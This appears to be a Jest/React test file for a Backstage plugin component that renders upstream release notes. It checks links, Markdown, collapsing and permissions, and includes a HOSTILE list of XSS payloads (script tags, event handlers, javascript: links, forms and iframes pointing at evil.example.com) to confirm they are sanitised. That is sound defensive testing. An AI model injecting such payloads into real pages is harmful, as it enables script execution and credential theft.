import {
  mockApis,
  renderInTestApp,
  TestApiProvider,
} from '@backstage/frontend-test-utils';
import { EntityProvider } from '@backstage/plugin-catalog-react';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import type {
  DriftResult,
  ReleaseNote,
} from '@dockyard/plugin-containers-common';
import {
  act,
  fireEvent,
  screen,
  waitFor,
  within,
} from '@testing-library/react';
import { containersApiRef } from '../../api';
import {
  containerEntity,
  driftRecord,
  mockContainersApi,
} from '../../__testUtils__/fixtures';
import { FreshPermissionCache } from '../../__testUtils__/FreshPermissionCache';
import { ContainerDriftCard } from './ContainerDriftCard';
import { ReleaseNotes } from './ReleaseNotes';

function record(overrides: Partial<DriftResult> = {}): DriftResult {
  return {
    slug: 'trino',
    strategy: 'github-release',
    source: 'github:trinodb/trino',
    sourceUrl: 'https://github.com/trinodb/trino/releases',
    current: '476',
    latest: '478',
    status: 'behind',
    behind: { major: 2, minor: 0, patch: 0, releases: 2 },
    checkedAt: '2025-12-01T00:00:00Z',
    ...overrides,
  };
}

function note(version: string, overrides: Partial<ReleaseNote> = {}) {
  return {
    version,
    url: `https://github.com/trinodb/trino/releases/tag/${version}`,
    ...overrides,
  };
}

async function render(result: DriftResult) {
  await act(async () => {
    renderInTestApp(<ReleaseNotes record={result} />);
  });
}

/** The list of releases headed `title`. */
function section(title: string): HTMLElement {
  return screen.getByRole('region', { name: title });
}

function releases(title = 'Releases since 476'): HTMLElement[] {
  return within(section(title)).getAllByRole('listitem');
}

/** Release notes from someone who means harm: every way into the page we know of. */
const HOSTILE = [
  '## Breaking changes',
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '![pixel](https://tracker.example.com/p.gif)',
  '[click me](javascript:window.pwned=3)',
  '[data](data:text/html,<script>alert(1)</script>)',
  '<a href="javascript:window.pwned=4">raw link</a>',
  '<a href="https://example.com/ok" onclick="window.pwned=5">raw web link</a>',
  '<iframe src="https://evil.example.com"></iframe>',
  '<form action="https://evil.example.com"><input name="password"><button>Go</button></form>',
  '<style>body { display: none }</style>',
  '<div onmouseover="window.pwned=6" style="position:fixed">hover</div>',
  '<svg onload="window.pwned=7"><circle r="5"/></svg>',
  '<object data="https://evil.example.com/x.swf"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.com">',
  '<base href="https://evil.example.com/">',
  '<details open ontoggle="window.pwned=8"><summary>x</summary></details>',
].join('\n\n');

describe('ReleaseNotes', () => {
  it('shows nothing without releases', async () => {
    await render(record({ status: 'up-to-date', behind: undefined }));
    expect(screen.queryByRole('region', { name: /releases since/ })).toBeNull();
  });

  it('lists each release with its name, date, link and highlights', async () => {
    await render(
      record({
        releases: [
          note('478', {
            name: 'Trino 478',
            publishedAt: '2025-08-01T10:00:00Z',
            highlights: ['breaking', 'security'],
          }),
          // eslint-disable-next-line no-script-url
          note('477', { publishedAt: 'garbage', url: 'javascript:alert(1)' }),
        ],
      }),
    );
    const [newest, older] = releases();
    expect(newest).toHaveTextContent(
      /^478Trino 478.*2025-08-01BreakingSecurity$/,
    );
    expect(
      within(newest).getByRole('link', { name: /Trino 478/ }),
    ).toHaveAttribute(
      'href',
      'https://github.com/trinodb/trino/releases/tag/478',
    );
    expect(
      Array.from(newest.querySelectorAll('[data-highlight]')).map(chip =>
        chip.getAttribute('data-highlight'),
      ),
    ).toEqual(['breaking', 'security']);
    // A link that is not a web link is no link; a date that is not one is not shown.
    expect(older).toHaveTextContent(/^477$/);
    expect(within(older).queryByRole('link')).toBeNull();
  });

  it('shows the first releases, all of them on request, and says how many are older', async () => {
    const many = Array.from({ length: 20 }, (_, i) => note(String(500 - i)));
    await render(
      record({
        latest: '500',
        behind: { major: 24, minor: 0, patch: 0, releases: 24 },
        releases: many,
      }),
    );
    expect(releases()).toHaveLength(5);
    expect(screen.queryByText(/older release/)).toBeNull();
    fireEvent.click(
      screen.getByRole('button', { name: 'Show all 20 releases' }),
    );
    expect(releases()).toHaveLength(20);
    expect(section('Releases since 476')).toHaveTextContent(
      '… and 4 older releases (all releases, Opens in a new window).',
    );
    expect(screen.getByRole('link', { name: /all releases/ })).toHaveAttribute(
      'href',
      'https://github.com/trinodb/trino/releases',
    );
  });

  it('renders the notes as Markdown, collapsed after a few lines', async () => {
    const body = [
      '## General',
      '- Add **support** for [Iceberg](https://iceberg.apache.org/) v3.',
      '- Fix a bug in `SELECT`.',
      '',
      '| connector | change |',
      '| --- | --- |',
      '| hive | faster |',
      '',
      '## Security',
      '- Upgrade Jetty (see #general).',
    ].join('\n');
    await render(record({ releases: [note('478', { body })] }));
    const notes = screen.getByTestId('release-body');
    expect(within(notes).getByText('support').tagName).toBe('STRONG');
    expect(
      within(notes).getByRole('link', { name: /Iceberg/ }),
    ).toHaveAttribute('href', 'https://iceberg.apache.org/');
    expect(notes).not.toHaveTextContent('Upgrade Jetty');
    const toggle = screen.getByRole('button', { name: 'Show more' });
    expect(toggle).toHaveAttribute('aria-expanded', 'false');
    expect(toggle).toHaveAttribute('aria-controls', notes.id);

    fireEvent.click(toggle);
    expect(notes).toHaveTextContent('Upgrade Jetty');
    expect(within(notes).getByRole('table')).toHaveTextContent('hivefaster');
    expect(screen.getByRole('button', { name: 'Show less' })).toHaveAttribute(
      'aria-expanded',
      'true',
    );
  });

  it('says when the notes were cut, with a link to all of them', async () => {
    const body = Array.from({ length: 10 }, (_, i) => `line ${i}`).join('\n');
    await render(
      record({ releases: [note('478', { body, bodyTruncated: true })] }),
    );
    expect(screen.queryByText(/Cut at/)).toBeNull();
    fireEvent.click(screen.getByRole('button', { name: 'Show more' }));
    expect(screen.getByText(/Cut at 20,000 characters/)).toBeInTheDocument();
    expect(
      screen.getByRole('link', { name: /read the full notes/ }),
    ).toHaveAttribute(
      'href',
      'https://github.com/trinodb/trino/releases/tag/478',
    );
  });

  it('never renders hostile notes as live elements, handlers or script links', async () => {
    await render(
      record({
        releases: [note('478', { body: HOSTILE, highlights: ['breaking'] })],
      }),
    );
    fireEvent.click(screen.getByRole('button', { name: 'Show more' }));
    const notes = screen.getByTestId('release-body');

    expect(
      notes.querySelectorAll(
        'script, iframe, form, button, style, object, embed, meta, base, link, svg',
      ),
    ).toHaveLength(0);
    // GitHub's schema keeps a task list's checkbox, disabled: the only input that can appear.
    expect(
      notes.querySelectorAll('input:not([type="checkbox"][disabled])'),
    ).toHaveLength(0);
    for (const element of Array.from(notes.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) {
        expect([element.tagName, attribute.name]).not.toEqual([
          element.tagName,
          expect.stringMatching(/^on/i),
        ]);
        expect([element.tagName, attribute.name]).not.toEqual([
          element.tagName,
          'style',
        ]);
      }
    }
    // Only web links are links; the others show their text.
    const hrefs = Array.from(notes.querySelectorAll('a')).map(a =>
      a.getAttribute('href'),
    );
    expect(hrefs).toEqual(['https://example.com/ok']);
    expect(notes).toHaveTextContent('click me');
    expect(notes).toHaveTextContent('raw link');
    // Images are not loaded from the hosts the notes name.
    for (const image of Array.from(notes.querySelectorAll('img'))) {
      expect(image.getAttribute('src') ?? '').toBe('');
    }
    expect((window as any).pwned).toBeUndefined();
  });

  it('lists the releases of each companion under its name', async () => {
    await render(
      record({
        status: 'up-to-date',
        behind: undefined,
        companions: [
          {
            name: 'iceberg-spark-runtime',
            strategy: 'maven',
            current: '1.6.1',
            latest: '1.7.0',
            status: 'behind',
            behind: { major: 0, minor: 1, patch: 0, releases: 1 },
            releases: [
              {
                version: '1.7.0',
                url: 'https://iceberg.apache.org/releases/#1.7.0-release',
                highlights: ['deprecation'],
              },
            ],
          },
          {
            name: 'aws-bundle',
            strategy: 'maven',
            current: '1.6.1',
            status: 'up-to-date',
          },
        ],
      }),
    );
    expect(
      screen.getAllByRole('region', { name: /releases since/ }),
    ).toHaveLength(1);
    const [release] = releases('iceberg-spark-runtime: releases since 1.6.1');
    expect(release).toHaveTextContent(
      /^1\.7\.0Release notes of 1\.7\.0, Opens in a new windowDeprecation$/,
    );
  });

  it('is part of the drift card', async () => {
    const authorize = jest.fn(() => AuthorizeResult.DENY);
    const api = mockContainersApi({
      getDrift: jest.fn(async () =>
        driftRecord({
          ...record({ releases: [note('478', { name: 'Trino 478' })] }),
          entityRef: 'component:default/trino',
        }),
      ),
    });
    await act(async () => {
      renderInTestApp(
        <TestApiProvider
          apis={[[containersApiRef, api], mockApis.permission({ authorize })]}
        >
          <FreshPermissionCache>
            <EntityProvider entity={containerEntity('trino')}>
              <ContainerDriftCard />
            </EntityProvider>
          </FreshPermissionCache>
        </TestApiProvider>,
      );
    });
    await waitFor(() => expect(authorize).toHaveBeenCalled());
    const [release] = await waitFor(() => releases());
    expect(
      within(release).getByRole('link', { name: /Trino 478/ }),
    ).toBeInTheDocument();
  });
});
